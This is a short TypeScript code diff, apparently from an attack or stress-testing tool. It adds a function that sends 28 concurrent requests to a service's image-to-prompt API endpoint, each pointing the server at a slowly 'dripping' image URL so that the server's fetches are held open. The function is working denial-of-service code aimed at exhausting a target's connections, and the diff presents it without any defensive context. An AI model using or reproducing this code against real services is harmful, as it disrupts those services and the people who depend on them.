@@ -38,3 +38,14 @@ function sniffType(image: Buffer): string {
   if (image[0] === 0xff) return 'image/jpeg'
   return image[0] === 0x89 ? 'image/png' : 'image/avif'
 }
+
+const urlCallers = 28
+
+/** Addresses of a host that never comes to an end: each holds a place until its time is over. */
+export function drippingImages(target: AttackTarget): Promise<AttackReport> {
+  return callRepeatedly(target, {
+    pathOf: () => '/api/v1/prompts/image-to-prompt',
+    callers: urlCallers,
+    bodyOf: (number) => JSON.stringify({ image_url: `${target.drippingUrl}/${number}.jpg` }),
+  })
+}
